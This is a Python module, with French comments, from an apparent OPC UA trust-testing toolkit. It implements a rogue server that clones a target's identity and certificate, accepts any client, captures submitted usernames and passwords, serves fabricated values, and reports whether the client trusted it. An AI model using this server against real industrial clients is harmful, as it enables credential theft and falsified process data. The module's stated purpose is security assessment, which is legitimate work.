#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""
ROGUE SERVER - OPC UA TRUSTKIT
Fichier: app/services/rogue_server.py

Clone d'un serveur découvert: même nom et URI d'application, mêmes
endpoints et politiques de jetons, certificat recopié champ par champ
avec une nouvelle clé. Il accepte tout client, déchiffre les jetons
UserName reçus et sert des valeurs fabriquées.

La redirection de la victime vers l'adresse d'écoute dépend de
l'environnement (redirection de port, URL d'endpoint modifiée); elle
n'est pas réalisée ici.

Auteur: Équipe Développement
Date: 2025
Version: 1.0
"""

import queue
import threading
from dataclasses import replace
from datetime import datetime, timezone
from pathlib import Path
from typing import List, Optional, Tuple, Union

from app.exceptions import ConfigurationError
from app.models.assessment import AttackKind, AttackOutcome, AttackResult, CapturedCredential, EvidenceKind, Side
from app.models.certificate import CertificateRecord
from app.models.endpoint import TargetDescriptor, token_policy_for
from app.models.node_store import default_nodes
from app.models.session import SessionState
from app.models.settings import ServerConfig
from app.models.trust import AcceptanceBasis, TrustDecision, TrustPolicy
from app.protocol.status import StatusCode, is_good
from app.protocol.structures import ATTRIBUTE_VALUE, MessageSecurityMode, ReadValueId, UserTokenType, WriteValue
from app.protocol.types import DataValue, now_ticks, variant_for
from app.services.fabricated_data import FabricatedDataGenerator
from app.services.pki_service import TrustStore, clone_certificate
from app.services.server_service import ChannelContext, UAServer
from app.utils.logger import AuditLogger

audit = AuditLogger()


def clone_config(target: TargetDescriptor, listen: Tuple[str, int] = ('127.0.0.1', 0),
                 identity=None) -> ServerConfig:
    """
    Configuration serveur imitant la cible. Les URL et certificats des
    endpoints sont effacés; le serveur les recalcule au démarrage.

    Raises:
        ConfigurationError: cible sans endpoint ou endpoint sécurisé sans certificat
    """
    if not target.endpoints:
        raise ConfigurationError(f"Cible {target.url} sans endpoint annoncé")
    if identity is None and target.server_certificate:
        identity = clone_certificate(target.server_certificate)
    application = target.application
    return ServerConfig(
        identity=identity,
        endpoints=[replace(e, endpoint_url=None, server_certificate=None) for e in target.endpoints],
        trust_policy=TrustPolicy.accept_all(),
        trust_store=TrustStore(),
        users={},
        anonymous_allowed=True,
        nodes=default_nodes(),
        host=listen[0],
        port=listen[1],
        application_uri=application.application_uri or (identity.application_uri if identity else None),
        application_name=application.application_name.text or 'OPC UA Server',
        product_uri=application.product_uri or 'urn:opcua-trustkit:server',
    )


class RogueServer(UAServer):
    """
    Serveur malveillant. Chaque preuve est rattachée au côté client:
    c'est la confiance de la victime cliente qui est mise en défaut.
    """

    attack_kind = AttackKind.ROGUE_SERVER

    def __init__(self, target: TargetDescriptor, listen: Tuple[str, int] = ('127.0.0.1', 0),
                 generator: Optional[FabricatedDataGenerator] = None,
                 transcript_dir: Optional[Union[str, Path]] = None, label: str = 'rogue-server',
                 config_class=None, identity=None):
        super().__init__(clone_config(target, listen, identity), transcript_dir=transcript_dir, label=label)
        self.target = target
        self.generator = generator or FabricatedDataGenerator(
            mode=getattr(config_class, 'FABRICATED_MODE', 'last_seen'),
            constant=getattr(config_class, 'FABRICATED_CONSTANT', 0.0),
        )
        self.credentials: List[CapturedCredential] = []
        self.captured: 'queue.Queue[CapturedCredential]' = queue.Queue()
        self._outcome = AttackOutcome(self.attack_kind)
        self._outcome_lock = threading.Lock()
        self._outcome.note("Interception du trafic victime dépendante de l'environnement "
                           "(URL d'endpoint redirigée dans le harnais)")

    @property
    def certificate(self) -> Optional[CertificateRecord]:
        return self.identity.record if self.identity else None

    def add_evidence(self, kind: EvidenceKind, side: Side = Side.CLIENT, **payload):
        with self._outcome_lock:
            self._outcome.add(kind, side, **payload)

    def note(self, message: str):
        with self._outcome_lock:
            self._outcome.note(message)

    # === HOOKS SERVEUR ===

    def judge_client(self, peer: CertificateRecord, ctx: ChannelContext) -> TrustDecision:
        decision = TrustDecision.accept(AcceptanceBasis.NO_VALIDATION)
        ctx.decision = decision
        return decision

    def on_channel_opened(self, ctx: ChannelContext):
        if not ctx.state.is_secure or ctx.peer_certificate is None:
            return
        victim = ctx.peer_certificate
        audit.log_untrusted_channel('client', victim.application_uri, victim.hex_thumbprint)
        self.add_evidence(EvidenceKind.UNTRUSTED_CHANNEL_ACCEPTED,
                          victim_application_uri=victim.application_uri,
                          victim_thumbprint=victim.hex_thumbprint,
                          presented_thumbprint=self.certificate.hex_thumbprint,
                          security_mode=ctx.state.mode.name)

    def authenticate_user(self, username: str, password: str, session: SessionState, ctx: ChannelContext) -> int:
        policy = token_policy_for(ctx.endpoint, UserTokenType.USERNAME)
        credential = CapturedCredential(
            username=username,
            password=password,
            token_policy_uri=(policy.security_policy_uri if policy else None) or ctx.endpoint.security_policy_uri,
            captured_at=datetime.now(timezone.utc),
            victim_application_uri=session.client_application_uri,
        )
        with self._outcome_lock:
            self.credentials.append(credential)
            self._outcome.add(EvidenceKind.CREDENTIAL_CAPTURED, Side.CLIENT, username=username,
                              token_policy_uri=credential.token_policy_uri,
                              victim_application_uri=credential.victim_application_uri,
                              security_mode=ctx.state.mode.name)
        audit.log_credential_capture(username, credential.victim_application_uri)
        self.captured.put(credential)
        return int(StatusCode.Good)

    def read_node(self, item: ReadValueId, session: SessionState, ctx: ChannelContext) -> DataValue:
        if item.attribute_id != ATTRIBUTE_VALUE:
            return super().read_node(item, session, ctx)
        stored = self.node_store.read(item.node_id)
        template = None
        if stored.value is not None and (stored.status is None or is_good(stored.status)):
            template = stored.value.value
        value = self.generator.value_for(item.node_id, template)
        self.add_evidence(EvidenceKind.VALUE_READ, node_id=item.node_id.to_string(), value=value,
                          source='fabricated')
        return DataValue(value=variant_for(value), server_timestamp=now_ticks())

    def write_node(self, item: WriteValue, session: SessionState, ctx: ChannelContext) -> int:
        status = super().write_node(item, session, ctx)
        if is_good(status):
            self.add_evidence(EvidenceKind.VALUE_WRITTEN, node_id=item.node_id.to_string(),
                              value=item.value.value.value, source='intercepted')
        return status

    # === RÉSULTAT ===

    def wait_for_credential(self, timeout: float = None) -> Optional[CapturedCredential]:
        try:
            return self.captured.get(timeout=timeout)
        except queue.Empty:
            return None

    def outcome(self) -> AttackOutcome:
        """Vulnerable dès qu'une victime a ouvert un canal sécurisé avec le clone."""
        with self._outcome_lock:
            outcome = AttackOutcome(self.attack_kind, evidence=list(self._outcome.evidence),
                                    notes=list(self._outcome.notes))
        accepted = outcome.has(EvidenceKind.UNTRUSTED_CHANNEL_ACCEPTED) or outcome.has(
            EvidenceKind.CREDENTIAL_CAPTURED)
        outcome.result = AttackResult.VULNERABLE if accepted else AttackResult.SECURE
        if not accepted:
            outcome.note("Aucun canal sécurisé ouvert par une victime")
        if any(e.payload.get('security_mode') == MessageSecurityMode.NONE.name
               for e in outcome.of_kind(EvidenceKind.CREDENTIAL_CAPTURED)):
            outcome.note("Identifiant capturé sur un canal None: aucun certificat accepté par la victime")
        outcome.transcript = str(self.transcript_dir) if self.transcript_dir else None
        return outcome


def rogue_server(target: TargetDescriptor, listen: Tuple[str, int] = ('127.0.0.1', 0),
                 generator: Optional[FabricatedDataGenerator] = None,
                 transcript_dir: Optional[Union[str, Path]] = None, config_class=None) -> RogueServer:
    """
    Démarre un Rogue Server clonant la cible.

    Raises:
        BindFailed, ConfigurationError
    """
    server = RogueServer(target, listen, generator=generator, transcript_dir=transcript_dir,
                         config_class=config_class).start()
    audit.logger.warning(f"🎭 Rogue Server imitant {target.application.application_uri} sur {server.url}")
    return server
